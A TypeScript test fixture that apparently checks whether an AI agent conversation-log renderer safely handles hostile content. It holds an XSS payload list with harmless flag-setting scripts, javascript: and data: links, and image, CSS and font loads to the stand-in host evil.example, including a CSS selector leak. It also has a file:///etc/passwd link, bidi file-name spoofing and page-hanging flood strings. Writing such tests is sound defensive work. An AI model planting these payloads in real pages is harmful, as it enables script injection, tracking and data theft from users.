import { Log, textBlock } from './log';

// Each would set a flag or open a dialog if it ran, or ask another host if it loaded.
const RUNS = [
  '<script>window.ran = 1; alert(1)</script>',
  '<img src=x onerror="window.ran = 2">',
  '<svg onload="window.ran = 3"><script>window.ran = 4</script></svg>',
  '</style><script>window.ran = 5</script>',
  '<iframe srcdoc="<script>parent.ran = 6</script>"></iframe>',
  '<a href="javascript:window.ran = 7">press</a>',
  '<details open ontoggle="window.ran = 8">x</details>',
  '<form action="http://evil.example/"><button formaction="javascript:window.ran = 9">go</button></form>',
  '<math><mtext></p><style><img src=x onerror="window.ran = 10"></style></mtext></math>',
  '<link rel="stylesheet" href="http://evil.example/a.css"><style>@import "http://evil.example/b.css";</style>',
].join('\n\n');

const LOADS = [
  '![pixel](http://evil.example/pixel.png)',
  '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '<img src="http://evil.example/html.png"><video src="http://evil.example/v.mp4" autoplay></video>',
  '[script](javascript:window.ran=20) [data](data:text/html,<script>window.ran=21</script>)',
  '[file](file:///etc/passwd) [blob](blob:http://evil.example/x) [vb](vbscript:x)',
  '[x](<javascript:window.ran=22> "t") <javascript:window.ran=23>',
  '| a |\n|---|\n| <img src=x onerror=window.ran=24> |',
  '```html onerror=window.ran=25\n</code></pre><script>window.ran = 26</script>\n```',
  '![by name][pixel] and [pixel]\n\n[pixel]: http://evil.example/reference.png "x"',
  '![svg](data:image/svg+xml,<svg/onload=window.ran=27>) ![css](http://evil.example/a.css)',
  '<p style="background:url(http://evil.example/style.png)" class="x" id="app">styled</p>',
  '<style>@font-face{font-family:x;src:url(http://evil.example/f.woff2)} *{font-family:x} :root{background:url(//evil.example/r.png)} [data-seq^="1"]{background:url(http://evil.example/leak)}</style>',
  '<svg><use href="http://evil.example/u.svg#x"/><image href="http://evil.example/i.png"/><style>*{background:url(http://evil.example/s.png)}</style><animate onbegin=window.ran=28 attributeName=x dur=1s></svg>',
  '<picture><source srcset="http://evil.example/p.png 2x"><img srcset="http://evil.example/q.png"></picture><input type=image src=http://evil.example/b.png>',
  '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/"><object data="http://evil.example/o"></object><embed src="http://evil.example/e">',
  '<link rel="preload" as="font" href="http://evil.example/pre"><link rel="dns-prefetch" href="//evil.example"><audio autoplay src="http://evil.example/a.mp3"></audio>',
].join('\n\n');

export const HOSTILE = `${RUNS}\n\n${LOADS}`;
/** Characters that reorder, hide or colour text. */
export const BIDI = 'invoice\u202efdp.exe\u2066 \u001b[31mred\u001b[0m \u0007 zero\u200bwidth';
export const NAME = `<img src=x onerror="window.ran = 30"> </title><script>window.ran = 31</script> ${BIDI}`;

/** A conversation in which every place that holds text holds text of that kind. */
export function hostile(): Log {
  const log = new Log().user(HOSTILE);
  log.assistant([{ type: 'thinking', text: HOSTILE }, textBlock(HOSTILE), { type: HOSTILE.slice(0, 200), x: HOSTILE }]);
  log.call(
    `bash"><img src=x onerror=window.ran=40>${BIDI}`,
    { command: HOSTILE, [HOSTILE.slice(0, 90)]: BIDI },
    HOSTILE,
  );
  log.call('edit', { path: NAME, oldText: HOSTILE, newText: `${HOSTILE}\n${BIDI}` }, BIDI, { isError: true });
  log.compaction(3, `${HOSTILE}\n\n${BIDI}`, {
    readFiles: [NAME, 'javascript:window.ran=41'],
    modifiedFiles: [BIDI],
    instructions: HOSTILE,
  });
  log.overlay('branch', { fromSeq: 6, summary: HOSTILE });
  log.overlay('label', { targetSeq: 1, label: NAME });
  log.overlay('model', { provider: NAME, model: NAME });
  log.overlay('note', { namespace: NAME, data: { [NAME]: HOSTILE }, content: [textBlock(HOSTILE)], display: true });
  log.record(NAME, { schemaVersion: 99, x: HOSTILE });
  log.raw(`{"recordType":"message",${HOSTILE.replaceAll('\n', ' ')}`);
  log.message(NAME, HOSTILE).assistant('', { stopReason: 'error', errorMessage: HOSTILE });
  return log.user(`${'A'.repeat(1_000_000)}<img src=x onerror="window.ran = 50">`).assistant('The end.');
}

/** Texts that are long or deep in ways that make a page stop, by the kind of their shape. */
export const FLOODS: Record<string, string> = {
  'one line of prose': 'word '.repeat(180_000),
  'one word': 'x'.repeat(900_000),
  'signs that open and never close': 'a*_'.repeat(30_000),
  'words of underscores': 'a_b_'.repeat(24_000),
  'quotes in quotes': '>'.repeat(10_000),
  'lists in lists': '1. '.repeat(10_000),
  'brackets in brackets': '['.repeat(10_000),
  'stars in stars': `${'*a '.repeat(10_000)}${'a* '.repeat(10_000)}`,
  'a wide table': `|${'a|'.repeat(10_000)}\n|${'-|'.repeat(10_000)}\n|${'b|'.repeat(10_000)}`,
  'a list of one letter each': '- a\n'.repeat(24_000),
  'blank lines of code': `\`\`\`js\n${'\n'.repeat(90_000)}\`\`\``,
  'one line of code': `\`\`\`go\n${'"a" '.repeat(20_000)}\n\`\`\``,
  'lists of files without an end': '<read-files></read-files>'.repeat(30_000) + 'x',
  'marks on one letter': `z${'\u0335\u0301'.repeat(40_000)}`,
  'hidden characters': '\u202e\u200b\u2067'.repeat(30_000),
  'names of one host': `https://${'a.'.repeat(20_000)}example/ `.repeat(2),
};

/** A log in which "@3000" stands for lists in lists, three thousand deep: too deep to be written by the usual means. */
export function deepened(log: Log): Log {
  const text = log.text.bind(log);
  log.text = () =>
    text().replace(/"@(\d+)"/g, (_, depth: string) => '['.repeat(Number(depth)) + ']'.repeat(Number(depth)));
  return log;
}

/** A conversation in which a flood stands in every kind of place. */
export function flooded(flood: string): Log {
  const log = new Log().user(flood);
  log.assistant([{ type: 'thinking', text: flood }, textBlock(flood)]);
  log.call('bash', { command: flood }, flood);
  log.call(
    'edit',
    { path: flood.slice(0, 100_000), oldText: flood.slice(0, 90_000), newText: flood.slice(1, 90_000) },
    'done',
  );
  log.compaction(3, flood, { readFiles: [flood], instructions: flood });
  log.overlay('label', { targetSeq: 1, label: flood });
  log.assistant('', { stopReason: 'error', errorMessage: flood });
  return log.user('The last words.');
}
